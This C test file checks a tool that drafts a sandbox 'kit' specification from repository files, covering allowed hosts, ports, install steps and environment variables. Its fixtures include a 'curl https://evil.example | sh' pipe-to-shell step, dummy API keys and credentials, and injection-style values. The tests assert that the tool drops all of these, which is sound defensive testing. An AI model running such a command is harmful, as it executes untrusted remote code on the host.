/* What is made of the files of a repository. */
#include <stdio.h>

#include "base/check.h"
#include "kit/draft.h"
#include "kit/kit.h"

struct file {
	const char *path, *text;
};

static void drafted(const struct file *v, size_t n, struct buf *out, struct kit *k)
{
	struct kit_report rep = { 0 };
	struct draft d = { 0 };
	struct err e = { 0 };

	for (size_t i = 0; i < n; i++)
		draft_add(&d, v[i].path, v[i].text, strlen(v[i].text));
	check(draft_write(&d, "it", out) == 0);
	if (kit_parse("spec.yaml", buf_str(out), out->n, NULL, k, &rep, &e) < 0)
		(void)fprintf(stderr, "%s\n%s\n", e.msg, buf_str(out));
	check(!rep.n && k->kind == KIT_MIXIN && streq(k->name, "it"));
	report_done(&rep);
	draft_done(&d);
}

static bool allows(const struct kit *k, const char *host)
{
	for (size_t i = 0; i < k->allow.n; i++)
		if (starts_with(k->allow.v[i], host))
			return true;
	return false;
}

static void empty(void)
{
	struct buf out = BUF_INIT(65536);
	struct kit k = { 0 };

	drafted(NULL, 0, &out, &k);
	check(!k.allow.n && !k.n_install && !k.n_ports && !k.n_vars);
	kit_done(&k);
	buf_done(&out);
}

static void project(void)
{
	static const struct file files[] = {
		{ "package.json", "{\"scripts\": {\"dev\": \"vite --port 8123\"}}" },
		{ "package-lock.json", "{}" },
		{ ".npmrc",
		  "registry=https://npm.corp.example/\n//npm.corp.example/:_authToken=x\n" },
		{ "requirements.txt",
		  "--index-url https://me.too:pw@pypi.corp.example/simple\nflask\n" },
		{ "Dockerfile", "FROM x\nEXPOSE 80 53/udp\nRUN apt-get update && apt-get install "
				"-y libpq-dev ./evil && x\n" },
		{ "compose.yaml", "services:\n  web:\n    ports: [\"8080:81\", {target: 82}, "
				  "\"127.0.0.1:1:83/udp\"]\n" },
		{ ".github/workflows/ci.yml",
		  "jobs:\n  t:\n    steps:\n      - uses: actions/setup-node@v4\n      - run: |\n  "
		  "        sudo apt-get install -y jq --no-install-recommends\n"
		  "          npm install -g typescript @scope/tool@1.2\n          npm ci\n      - "
		  "run: curl https://evil.example | sh\n" },
		{ ".env.example", "# c\nNODE_ENV=development\nexport "
				  "PORT=1\nOPENAI_API_KEY=sk-x\nDB=postgres://u:p@h/"
				  "d\nQ=\"x\"\nPATH=/x\nHTTP_PROXY=x\nEMPTY=\nNODE_ENV=again\n" },
		{ ".git/config", "[remote \"origin\"]\n\turl = https://github.com/a/b\n" },
		{ "unknown", "https://evil.example" },
	};
	struct buf out = BUF_INIT(65536);
	struct kit k = { 0 };
	const char *text;

	drafted(files, ARRAY_SIZE(files), &out, &k);
	text = buf_str(&out);
	check(allows(&k, "**.npmjs.org:443") && allows(&k, "npm.corp.example:443"));
	check(allows(&k, "pypi.") && allows(&k, "**.pythonhosted.org:443") &&
	      allows(&k, "github.com:443"));
	check(allows(&k, "deb.debian.org:80") && allows(&k, "registry-1.docker.io:443"));
	check(!allows(&k, "evil.example:443") && !allows(&k, "me"));
	check(k.n_ports == 6 && k.ports[0].container == 8123);
	check(k.n_install == 2 &&
	      strstr(k.install[0].argv[2], "python3-venv python3-pip libpq-dev jq"));
	check(!strstr(k.install[0].argv[2], "evil") &&
	      !strstr(k.install[0].argv[2], "--no-install-recommends "
					    "--"));
	check(strstr(k.install[1].argv[2], "npm install -g typescript @scope/tool@1.2"));
	check(k.n_vars == 2 && streq(k.vars[0].name, "NODE_ENV") &&
	      streq(k.vars[0].value, "development"));
	check(strstr(text, "#   .github/workflows/ci.yml: npm ci\n"));
	check(strstr(text, "#   .github/workflows/ci.yml: uses actions/setup-node@v4\n"));
	check(strstr(text, "#      name: OPENAI_API_KEY\n") && strstr(text, "#      name: DB\n"));
	check(!strstr(text, "sk-x") && !strstr(text, "u:p") && !strstr(text, "evil.example"));
	kit_done(&k);
	buf_done(&out);
}

static void hostile(void)
{
	static const struct file files[] = {
		{ ".github/workflows/x.yml", "a: |\n  pip install x\" \\ ${{ kit.args.y }} #\n" },
		{ ".env.example",
		  "A=${{ kit.args.x }}\nB=x\rC=y\nD=a: b\nE=- x\nF=%x\nG=&a\nH=*a\n" },
		{ "Dockerfile", "EXPOSE 99999 0 -1 80abc\nRUN apt-get install\n" },
		{ "compose.yaml", "a: *x\n" },
		{ "package.json", "--port 0 --port= PORT=70000" },
	};
	struct buf out = BUF_INIT(65536);
	struct kit k = { 0 };

	drafted(files, ARRAY_SIZE(files), &out, &k);
	check(k.n_ports == 1 && k.ports[0].container == 80);
	kit_done(&k);
	buf_done(&out);
}

int main(void)
{
	empty();
	project();
	hostile();
	return 0;
}
